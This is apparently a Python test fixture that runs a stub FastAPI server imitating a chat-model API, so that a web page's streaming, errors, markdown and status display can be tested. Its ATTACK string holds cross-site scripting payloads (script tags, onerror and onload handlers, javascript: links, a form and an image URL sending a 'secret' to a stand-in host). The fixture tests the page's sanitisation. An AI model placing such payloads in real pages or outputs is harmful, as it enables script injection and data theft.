"""A server that says what the page must be able to show, without a model: the endpoints the page uses, scripted answers.

    with StubServer() as stub:  open stub.url in a browser

The first word of the newest message picks the answer: `slow`, `busy`, `broken`, … as `_answer` lists; any other message is
answered with itself. What was asked is kept in `stub.bodies`.
"""

from __future__ import annotations

import asyncio
import json
import socket
import threading
import time
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import uvicorn
from fastapi import FastAPI, Request
from fastapi.responses import FileResponse, JSONResponse, Response, StreamingResponse
from fastapi.staticfiles import StaticFiles

import longreach.server

WEB = Path(longreach.server.__file__).parent / "web"

POLICY = (
    "default-src 'self'; object-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'; "
    "require-trusted-types-for 'script'; trusted-types dompurify"
)

ATTACK = """An answer with traps.

<img src=x onerror="document.title='owned'"> <script>document.title = 'owned'</script>
<svg onload="document.title='owned'"></svg> <iframe src="https://example.invalid/"></iframe>
<a href="javascript:document.title='owned'" onclick="document.title='owned'">raw link</a>
<form action="https://example.invalid/"><input name="key" autofocus></form>
<p class="problem" style="position:fixed" id="send">imitation</p>

[marked link](javascript:document.title='owned') and [data](data:text/html,<script>1</script>)
and ![picture](https://example.invalid/leak?secret=1) and [fine](https://example.org/page).
"""

MARKDOWN = """## Growth of a cache

The **compressed** entries need far less room than `float32` latents:

| layer | tokens per entry | bytes |
|:------|-----:|-----:|
| sliding window | 1 | 1,024 |
| selected | 4 | 584 |
| heavy | 128 | 584 |

1. read the prompt
2. pool each block, so that \\(c_j = \\sum_i w_i k_i\\)
3. keep the rest raw:
   - the window
   - the tail

```python
def entries(tokens: int, ratio: int) -> int:
    # a block that is not full yet stays in the tail
    return tokens // ratio
```

> A block is emitted once, when it is full.

See [the report][1].

[1]: https://example.org/report
"""


class StubServer:
    """Scripted answers on a free port of this machine.

    Attributes:
        key: the API key it asks for; None: none. models: what `/v1/models` says. bodies: chat requests, in order.
        paths: all requests. chunk_s: seconds between two chunks of an answer.
    """

    def __init__(self) -> None:
        self.key: str | None = None
        self.models: list[dict[str, Any]] = [
            model("deepseek-v4-flash", parameters=284_000_000_000),
            model("deepseek-v4-pro", parameters=1_600_000_000_000),
            {"id": "auto", "object": "model", "owned_by": "longreach"},
            model("base", chat_trained=False, parameters=20_500_000, context=4096),
        ]
        self.bodies: list[dict[str, Any]] = []
        self.paths: list[str] = []
        self.busy = 0  # requests still to be refused with 429
        self.chunk_s = 0.005
        self.running = 0
        self._polls = 0
        self._server = uvicorn.Server(uvicorn.Config(self._app(), log_level="warning", lifespan="off"))
        self._socket = socket.socket()
        self._socket.bind(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._socket.getsockname()[1]}/"
        self._thread = threading.Thread(target=self._server.run, kwargs={"sockets": [self._socket]}, daemon=True)

    def __enter__(self) -> StubServer:
        self._thread.start()
        deadline = time.monotonic() + 20
        while not self._server.started:
            assert time.monotonic() < deadline, "the stub server did not start"
            time.sleep(0.01)
        return self

    def __exit__(self, *_: object) -> None:
        self._server.should_exit = True
        self._server.force_exit = True
        self._thread.join(10)

    # ---- endpoints ---------------------------------------------------------------------------------------------------

    def _app(self) -> FastAPI:
        app = FastAPI()

        @app.middleware("http")
        async def admit(request: Request, call_next) -> Response:
            path = request.url.path
            self.paths.append(path)
            is_page = path == "/" or path.startswith("/web/")
            if not is_page and self.key and request.headers.get("authorization") != f"Bearer {self.key}":
                return refusal(401, "Authentication Fails, Your api key is invalid")
            response = await call_next(request)
            if is_page:
                response.headers["content-security-policy"] = POLICY
            return response

        @app.get("/")
        async def page() -> Response:
            return FileResponse(WEB / "index.html")

        app.mount("/web", StaticFiles(directory=WEB))

        @app.get("/v1/models")
        async def models() -> dict[str, Any]:
            return {"object": "list", "data": self.models}

        @app.get("/status")
        async def status() -> dict[str, Any]:
            self._polls += 1
            return {
                "version": "0.1.0", "uptime_s": 3700.0,
                "models": [
                    {
                        "id": "deepseek-v4-flash", "running": self.running, "waiting": 2, "max_running": 32,
                        "tokens_per_s": 40.0 + 9 * (self._polls % 5), "prompt_tokens_per_s": 1834.0,
                        "kv_cache_bytes": 48 * 2**20, "kv_cache_capacity_bytes": 2 * 2**30,
                        "v32_kv_cache_bytes": 480 * 2**20, "cached_tokens_total": 600, "prompt_tokens_total": 1000,
                        "hit_rate": 0.6, "disk_cache_bytes": 3 * 2**30,
                    },
                    {
                        "id": "deepseek-v4-pro", "running": 0, "waiting": 0, "max_running": 8, "tokens_per_s": 0.0,
                        "prompt_tokens_per_s": 0.0, "kv_cache_bytes": 0, "kv_cache_capacity_bytes": 2**30,
                        "v32_kv_cache_bytes": 0, "cached_tokens_total": 0, "prompt_tokens_total": 0, "hit_rate": 0.0,
                        "disk_cache_bytes": 0,
                    },
                ],
                "process": {"rss_bytes": 900 * 2**20, "cpu_fraction": 0.93},
            }  # fmt: skip

        @app.get("/v1/prices")
        async def prices() -> dict[str, Any]:
            flash = {"hit": "0.003", "miss": "0.15", "output": "0.60"}
            return {"currency": "USD", "models": {"deepseek-v4-flash": flash, "deepseek-v4-pro": flash}}

        @app.post("/tokenize")
        async def tokenize(request: Request) -> dict[str, Any]:
            text = (await request.json())["content"]
            return {"count": len(text.split()), "tokens": []}

        @app.post("/v1/chat/completions")
        async def chat(request: Request) -> Response:
            body = await request.json()
            self.bodies.append(body)
            word = question(body).split()[0]
            if word == "busy" and self.busy:
                self.busy -= 1
                return refusal(429, "Too many concurrent requests.", {"retry-after": "2"})
            if word == "poor":
                return refusal(402, "Insufficient Balance")
            if word == "down":
                return refusal(503, "The model is being loaded.")
            return StreamingResponse(self._stream(body, word), media_type="text/event-stream")

        return app

    async def _stream(self, body: dict[str, Any], word: str) -> AsyncIterator[str]:
        name = "deepseek-v4-flash" if body["model"] == "auto" else body["model"]
        written = {"reasoning_content": 0, "content": 0}
        self.running += 1
        try:
            if word == "queue":
                for _ in range(4):
                    yield ": keep-alive\n\n"
                    await asyncio.sleep(0.3)
            yield frame(name, {"role": "assistant", "content": None, "reasoning_content": ""})
            for kind, text in self._answer(body, word):
                if kind == "error":
                    yield f"data: {json.dumps({'error': {'message': text, 'type': 'server_error'}})}\n\n"
                    return
                if kind == "end":
                    return
                await asyncio.sleep(0.03 if word == "slow" else self.chunk_s)
                written[kind] += 1
                yield frame(name, {kind: text})
            prompt = sum(len(message["content"].split()) for message in body["messages"])
            hit = sum(len(message["content"].split()) for message in body["messages"][:-1])
            usage = {
                "prompt_tokens": prompt, "completion_tokens": sum(written.values()), "prompt_cache_hit_tokens": hit,
                "prompt_cache_miss_tokens": prompt - hit,
                "completion_tokens_details": {"reasoning_tokens": written["reasoning_content"]},
            }  # fmt: skip
            yield frame(name, {"content": ""}, finish_reason="stop", usage=usage)
            yield "data: [DONE]\n\n"
        finally:
            self.running -= 1

    def _answer(self, body: dict[str, Any], word: str) -> list[tuple[str, str]]:
        """The chunks of an answer: their kind and text."""
        said = question(body)
        effort = body.get("reasoning_effort")
        parts: list[tuple[str, str]] = []
        if body["thinking"]["type"] == "enabled":
            thought = (
                f"Thinking with effort {effort}. The question has {len(said)} characters. An answer comes to mind."
            )
            parts += [("reasoning_content", piece + " ") for piece in thought.split()]
        if word == "broken":
            return [*parts, ("content", "Half an"), ("error", "The engine stopped.")]
        if word == "cut":
            return [*parts, ("content", "Half an"), ("end", "")]
        text = {
            "slow": " ".join(f"word{i}" for i in range(2000)), "traps": ATTACK, "markdown": MARKDOWN,
            "long": "\n\n".join(f"Paragraph {i}: " + "some words of an answer " * 12 for i in range(400)),
        }.get(word, f"You said: {said}")  # fmt: skip
        size = 40 if word == "long" else 4
        return parts + [("content", text[i : i + size]) for i in range(0, len(text), size)]


def model(name: str, *, thinking: bool = True, chat_trained: bool = True, parameters: int = 0, context: int = 1048576):
    """An entry of `/v1/models` as the server makes it."""
    facts = {
        "kind": "local", "context": context, "parameters": parameters, "thinking": thinking, "chat_trained": chat_trained,
        "aliases": [],
    }  # fmt: skip
    return {"id": name, "object": "model", "owned_by": "longreach", "longreach": facts}


def question(body: dict[str, Any]) -> str:
    """The newest message without the files that stand before it."""
    return body["messages"][-1]["content"].rpartition("[file content end]\n")[2]


def frame(
    name: str, delta: dict[str, Any], finish_reason: str | None = None, usage: dict[str, Any] | None = None
) -> str:
    """One server-sent event of a streamed answer."""
    choice = {"index": 0, "delta": delta, "finish_reason": finish_reason}
    chunk = {"id": "1", "object": "chat.completion.chunk", "model": name, "choices": [choice], "usage": usage}
    return f"data: {json.dumps(chunk)}\n\n"


def refusal(status: int, message: str, headers: dict[str, str] | None = None) -> JSONResponse:
    body = {
        "error": {"message": message, "type": "invalid_request_error", "param": None, "code": "invalid_request_error"}
    }
    return JSONResponse(body, status, headers)
